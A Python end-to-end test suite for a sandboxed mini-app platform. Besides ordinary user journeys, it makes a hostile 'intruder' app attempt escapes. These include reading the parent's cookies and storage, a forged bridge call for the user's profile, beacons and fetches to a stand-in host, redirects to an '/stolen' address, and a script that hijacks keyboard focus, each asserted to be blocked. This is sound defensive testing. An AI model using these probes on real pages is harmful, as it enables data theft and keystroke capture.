"""What people do with mini apps, in Chromium, Firefox and WebKit, and in Chromium where no cookies of embedded pages are kept, on domains with
TLS: a permission, kudos, an expense without a connection, a new version. And what a hostile mini app tries there."""

import contextlib
import json
import re

import pytest

from domains import MINI_APPS, SHELL, Domains
from engines import Chromium
from journeys import browser, open_app, picture, result, sign_in, sign_out, store, thoroughly  # noqa: F401
from running import Lagoon
from test_kept import MIRRORED
from waiting import until

ENGINES = ["Chromium", "Chromium without cookies", "Firefox", "WebKit"]
in_each_engine = pytest.mark.parametrize("browser", [thoroughly(name) for name in ENGINES], indirect=True)
ELSEWHERE = "elsewhere.test"


@pytest.fixture(scope="module")
def lagoon(tmp_path_factory):
    running = Lagoon(tmp_path_factory.mktemp("lagoon"), options=Domains.OPTIONS)
    running.start()
    yield running
    running.stop()


def answer(browser, words):
    """Answers the sheet that asks for permissions with the mouse, when it can be answered."""
    browser.until("""const button = [...document.querySelectorAll("dialog.sheet button")].find((each) => each.textContent.trim() === arguments[0]);
        if (button) button.id = "the-answer";
        return button && !button.hasAttribute("aria-disabled");""", words)
    browser.click("#the-answer")
    browser.until("return !document.querySelector('dialog.sheet')")


def forget(browser, name):
    """The user is asked again for everything."""
    # While Chromium clears the data of a site, it may load the page once more, and the request is sent again.
    browser.until("""window.forgetting ??= fetch("/permissions/forget", { method: "POST", body: new URLSearchParams({ miniApp: arguments[0] }) })
        .then(() => { window.forgotten = true; });
        return window.forgotten === true;""", f"com.example.{name}")


def choose(browser, selector, index):
    """Chooses an option of a select element, once it is there."""
    browser.until("return document.querySelector(arguments[0])?.options.length > arguments[1]", selector, index)
    browser.js("""const list = document.querySelector(arguments[0]);
        list.selectedIndex = arguments[1];
        list.dispatchEvent(new Event("change", { bubbles: true }));""", selector, index)


def inside(browser, script, *arguments):
    """Waits until a script's result in the frame is true. The frame may be at another page meanwhile."""
    def look():
        with browser.frame():
            return browser.js(script, *arguments)
    until(look, passing=browser.failures, said=lambda: f"{script} in the frame")


def is_mirrored(browser):
    """Whether the browser has what the mini app has stored, for reading without a connection."""
    browser.js("""window.mirrored = undefined; (%s)().then((found) => { window.mirrored = found; });""" % MIRRORED)
    browser.until("return window.mirrored !== undefined")
    return browser.js("return window.mirrored")


def is_kept(browser):
    """Whether a worker answers the mini app's pages, with files that it has kept."""
    kept = """window[Symbol.for("atoll.workers")].getRegistration().then(async (found) =>
        found?.active?.state === "activated" && !found.waiting && !found.installing && (await (await caches.open("atoll-files")).keys()).length)"""
    return (result(browser, kept) or 0) > 10


@in_each_engine
def test_kudos_need_the_name_and_are_there_after_a_reload(browser):
    sign_in(browser, "ada")
    forget(browser, "kudos")
    thanks = f"For the tests of {type(browser).__name__} <b>"

    def write():
        open_app(browser, "kudos")
        with browser.frame():
            browser.click(".give a")
        inside(browser, "return location.pathname.startsWith('/pages/give') && !!document.querySelector('#to option')")
        with browser.frame():
            choose(browser, "#to", 2)
            browser.fill("#message", thanks)
            browser.click("button.primary")

    write()
    browser.until("return !!document.querySelector('dialog.sheet')")
    assert "Know your name" in browser.js("return document.querySelector('dialog.sheet').textContent")
    picture(browser, "permission")
    answer(browser, "Allow")
    posted = "return [...document.querySelectorAll('.post.own')].some((each) => each.textContent.includes(arguments[0]))"
    inside(browser, posted, thanks)
    open_app(browser, "kudos")
    inside(browser, posted, thanks)
    picture(browser, "kudos-given")
    # After it is revoked, the name is no longer given, and the user is not asked again.
    browser.go("/permissions")
    browser.until("""const button = [...document.querySelectorAll("li")].find((each) => each.textContent.includes("Know your name"))?.querySelector("button");
        button?.click();
        return !!button;""")
    browser.until("return [...document.querySelectorAll('li button')].some((each) => each.textContent.trim() === 'Allow')")
    open_app(browser, "kudos")
    assert result(browser, 'import("/.atoll/atoll.js").then(({ user }) => user.profile()).then((each) => "name" in each)') is False


@in_each_engine
def test_an_expense_is_written_without_a_connection_and_sent_when_there_is_one(browser):
    sign_in(browser, "ada")
    open_app(browser, "expenses")
    with browser.frame():
        browser.click(".foot a")
    inside(browser, "return !!document.querySelector('#fields:not([disabled])')")
    note = f"Ferry with {type(browser).__name__}"
    until(lambda: is_mirrored(browser) and is_kept(browser))
    browser.sites.tunnel.set_up(False)
    with browser.frame():
        browser.fill("#amount", "12.50")
        browser.fill("#note", note)
        browser.click("#save")
    browser.until("return /wait for a connection|waits for a connection/.test(document.querySelector('#waiting')?.textContent ?? '')")
    written = "return [...document.querySelectorAll('.entry')].some((each) => each.textContent.includes(arguments[0]))"
    inside(browser, written, note)
    picture(browser, "expense-waits")
    browser.sites.tunnel.set_up(True)
    browser.js("dispatchEvent(new Event('online'))")
    browser.until("return !document.querySelector('#waiting')?.checkVisibility()")
    # The next session reads it from the server.
    sign_out(browser)
    sign_in(browser, "ada")
    open_app(browser, "expenses")
    inside(browser, written, note)


@in_each_engine
def test_the_next_version_is_opened_whole(browser, lagoon):
    sign_in(browser, "ada")
    open_app(browser, "directory")
    folder = lagoon.miniapps / "directory"
    manifest = json.loads((folder / "manifest.json").read_text())
    code = manifest["version"]["code"] + 1
    manifest["version"] = {"code": code, "name": f"{code}.0.0"}
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2))
    style = folder / "app.css"
    style.write_text(style.read_text() + f"\n:root {{ --release: {code}; }}\n")
    for page in folder.glob("pages/*.html"):
        page.write_text(re.sub(r"<main(?: data-release=\"\d+\")?", f'<main data-release="{code}"', page.read_text()))
    lagoon.restart()

    def shown():
        """What page and style sheet say of their version, which must agree."""
        open_app(browser, "directory")
        with browser.frame():
            page, style = browser.js("""return [document.querySelector("main").dataset.release ?? null,
                getComputedStyle(document.documentElement).getPropertyValue("--release").trim() || null]""")
        assert page == style
        return page == str(code)

    until(shown)
    assert f"--release: {code}" in result(browser, 'fetch("/app.css").then((answer) => answer.text())')


ATTEMPTS = {
    "parent.document.title": "SecurityError",
    "top.document.title": "SecurityError",
    "parent.document.cookie": "SecurityError",
    "parent.localStorage.length": "SecurityError",
    'parent.fetch("/hub")': "SecurityError",
    "document.cookie": "",
    # Not by `eval`: code that a driver runs may evaluate text in some browsers.
    """new Promise((resolve) => { window.evaluated = "blocked"; setTimeout("window.evaluated = 1"); setTimeout(() => resolve(window.evaluated)); })""": "blocked",
    """(document.body.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 1" })), window.ran ?? "blocked")""": "blocked",
    f'fetch("https://{ELSEWHERE}/x", {{ mode: "no-cors" }}).then(() => "fetched")': "TypeError",
    f'fetch("https://{SHELL}/hub", {{ mode: "no-cors", credentials: "include" }}).then(() => "fetched")': "TypeError",
    f"""fetch("https://{SHELL}/bridge?miniApp=com.example.intruder", {{ method: "POST", credentials: "include",
        body: '{{"jsonrpc":"2.0","id":1,"method":"user.profile"}}' }}).then(() => "posted")""": "TypeError",
    f"""new Promise((resolve) => {{ const script = Object.assign(document.createElement("script"), {{ src: "https://{ELSEWHERE}/x.js" }});
        script.onerror = () => resolve("blocked"); script.onload = () => resolve("loaded"); document.head.append(script); }})""": "blocked",
    f"""new Promise((resolve) => {{ const image = new Image(); image.onerror = () => resolve("blocked"); image.onload = () => resolve("loaded");
        image.src = "https://{ELSEWHERE}/x.png"; }})""": "blocked",
    # Some browsers throw, and some tell later.
    f"""new Promise((resolve) => {{ try {{ new Worker("https://{ELSEWHERE}/x.js").onerror = () => resolve("SecurityError"); }}
        catch (error) {{ resolve(error.name); }} }})""": "SecurityError",
    f'new EventSource("https://{ELSEWHERE}/x")': None,
    f'new WebSocket("wss://{ELSEWHERE}/x")': None,
    f'navigator.sendBeacon("https://{ELSEWHERE}/x", "data")': None,
    f'window.open("https://{ELSEWHERE}/x")': None,
    'window.atoll.call("host.steal")': "AtollError",
}


@in_each_engine
def test_a_hostile_mini_app_reaches_nothing(browser):
    sign_in(browser, "ada")
    open_app(browser, "intruder")
    found = {attempt: result(browser, attempt) for attempt, expected in ATTEMPTS.items()}
    assert {attempt: found[attempt] for attempt, expected in ATTEMPTS.items() if expected is not None} \
        == {attempt: expected for attempt, expected in ATTEMPTS.items() if expected is not None}
    assert ELSEWHERE not in browser.sites.tunnel.names
    # It can't lead its frame elsewhere, nor to the shell, nor the whole window.
    for address in f"https://{ELSEWHERE}/stolen", f"https://{SHELL}/hub":
        with browser.frame():
            browser.js("""Event.prototype.preventDefault = () => {};
                try { top.location = arguments[0]; } catch { /* It may be told so. */ }
                setTimeout(() => { location = arguments[0]; }, 0);""", address)
        # The shell says that the mini app tried to leave.
        browser.until("return document.body.textContent.includes('tried to leave') || document.body.textContent.includes('was stopped')")
        assert browser.js("return location.href").startswith(f"https://{SHELL}/miniapp/com.example.intruder")
        open_app(browser, "intruder")
    # Chromium connects to the place to which a frame would navigate, as SECURITY.md says, and asks it for nothing.
    assert ELSEWHERE not in browser.sites.tunnel.names or type(browser).__name__ == "Chromium"


# The script with which a frame tries to get the keys that the user types elsewhere.
GRAB = """const own = document.createElement("input");
    document.body.append(own);
    setInterval(() => { window.focus(); own.focus({ preventScroll: true }); }, 1);
    (function again() { own.blur(); own.focus({ preventScroll: true }); setTimeout(again, 0); })();"""


@in_each_engine
def test_a_frame_that_keeps_taking_the_keyboard_is_stopped(browser):
    sign_in(browser, "ada")
    open_app(browser, "intruder")
    with browser.frame():
        browser.js(GRAB)
    browser.js("dispatchEvent(new Event('atoll:search'))")
    browser.until("return document.querySelector('dialog[open] input[type=search]') !== null")
    browser.js("document.querySelector('dialog[open] input[type=search]').focus()")
    # In WebKit, a frame that the user has not tapped can't take the focus.
    browser.until("""const field = document.querySelector("dialog[open] input[type=search]");
        const frame = document.getElementById("mini-app");
        window.looks = document.activeElement === field && (frame.src === "about:blank" || arguments[0]) ? (window.looks ?? 0) + 1 : 0;
        return window.looks > 10;""", type(browser).__name__ == "WebKit")
    if type(browser).__name__ != "WebKit":
        assert "was stopped, because it kept taking the keyboard" in browser.js("return document.body.textContent")


@in_each_engine
def test_a_frame_that_takes_the_focus_once_goes_on(browser):
    """An app may focus a field of its own while the user types elsewhere: the field of the shell has the focus again at once."""
    sign_in(browser, "ada")
    open_app(browser, "intruder")
    browser.js("dispatchEvent(new Event('atoll:search'))")
    browser.until("return document.querySelector('dialog[open] input[type=search]') !== null")
    browser.js("document.querySelector('dialog[open] input[type=search]').focus()")
    for _ in range(3):
        with browser.frame():
            browser.js("""const own = document.createElement("input");
                document.body.append(own);
                own.focus({ preventScroll: true });""")
        browser.until("""const field = document.querySelector("dialog[open] input[type=search]");
            window.looks = document.activeElement === field ? (window.looks ?? 0) + 1 : 0;
            return window.looks > 10;""")
    assert result(browser, "6 * 7") == 42


@in_each_engine
def test_a_mini_app_does_not_lead_the_window_back(browser):
    """Firefox and WebKit let it, which SECURITY.md says: when this fails there, that is mended."""
    sign_in(browser, "ada")
    browser.go("/hub")
    open_app(browser, "intruder")
    here = browser.path()
    with contextlib.suppress(*browser.failures), browser.frame():
        browser.js("window.didRun = true; setTimeout(() => history.back(), 0)")
    if not isinstance(browser, Chromium):
        return browser.until("return location.pathname !== arguments[0]", here)
    # The calls after it were answered, and the window is where it was.
    result(browser, "(async () => { for (let i = 0; i < 20; i++) await atoll.storage.keys(); })()")
    assert browser.path() == here and result(browser, "window.didRun") is True


@in_each_engine
def test_a_launch_that_others_learn_of_opens_nothing(browser):
    """Neither its address, nor those within it, nor a guessed one; without the browser's cookies, or from another page of the browser."""
    sign_in(browser, "ada")
    open_app(browser, "intruder")
    source = browser.js("return document.getElementById('mini-app').src")
    known = {source, browser.js("return document.getElementById('mini-app').dataset.origin") + "/app.js"}
    with browser.frame():
        known |= set(browser.js("return [location.href, ...performance.getEntries().map((each) => each.name)].filter((each) => each.startsWith('https:'))"))
    assert any(address.endswith("/app.js") for address in known) and all(f".{MINI_APPS}" in address or SHELL in address for address in known), known
    guessed = {re.sub(r"[0-9a-f]{16,}|[\w-]{20,}", lambda found: "A" * len(found[0]), address) for address in known}
    for address in sorted(known | guessed):
        host, path = re.match(r"https://([^/]+)(.*)", address).groups()
        if host == SHELL:
            continue
        connection = browser.sites.connection(host)
        connection.request("GET", path, headers={"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "none"})
        response = connection.getresponse()
        body = response.read()
        assert response.status == 404 or b"intruder" not in body.lower() and b"window.atoll" not in body, (address, response.status)
        connection.close()
    # The page of the mini app names its script.
    is_there = "return document.querySelector('script[src*=\"app.js\"]') !== null"
    with browser.frame():
        assert browser.js(is_there)
    # The user's own browser shows it only within the shell, and after the session has ended, not at all.
    browser.go(source)
    assert not browser.js(is_there)
    browser.go("/hub")
    sign_out(browser)
    browser.go(source)
    assert not browser.js(is_there)


@in_each_engine
def test_the_next_user_finds_nothing_of_a_mini_app_that_stores_wherever_it_can(browser):
    everything = """(async () => {
      await atoll.storage.set("secret", "ada's");
      try { localStorage.setItem("secret", "ada's"); } catch { /* No storage in this frame. */ }
      document.cookie = "partitioned=ada; SameSite=None; Secure; Path=/; Partitioned; Max-Age=86400";
      document.cookie = "domain=ada; SameSite=None; Secure; Path=/; Domain=%s; Max-Age=86400";
      window.name = "ada";
      history.replaceState({ ada: true }, "");
      const cache = await caches.open("ada").catch(() => null);
      await cache?.put("/ada", new Response("ada"));
      await new Promise((resolve) => { const request = indexedDB.open("ada"); request.onsuccess = request.onerror = resolve; });
    })()""" % MINI_APPS
    left = """(async () => ({
      keys: await atoll.storage.keys(),
      local: (() => { try { return Object.keys(localStorage).filter((key) => localStorage[key].includes("ada")); } catch { return []; } })(),
      cookies: document.cookie, name: window.name, state: history.state?.ada ?? null,
      caches: (await caches.keys().catch(() => [])).includes("ada"),
      databases: indexedDB.databases ? (await indexedDB.databases().catch(() => [])).some(({ name }) => name === "ada") : false,
      id: (await atoll.user.profile()).id,
    }))()"""
    sign_in(browser, "ada")
    open_app(browser, "intruder")
    result(browser, everything)
    own = result(browser, left)
    assert own["keys"] == ["secret"] and own["name"] == "ada"
    if isinstance(browser, Chromium):
        assert own["caches"] and own["databases"] and "partitioned=ada" in own["cookies"], "there is something to find"
    sign_out(browser)
    sign_in(browser, "ben")
    open_app(browser, "intruder")
    other = result(browser, left)
    assert other.pop("id") != own["id"]
    assert other == {"keys": [], "local": [], "cookies": "", "name": "", "state": None, "caches": False, "databases": False}
    open_app(browser, "kudos")
    assert store(browser, "storage.keys()") == [] or "secret" not in store(browser, "storage.keys()")
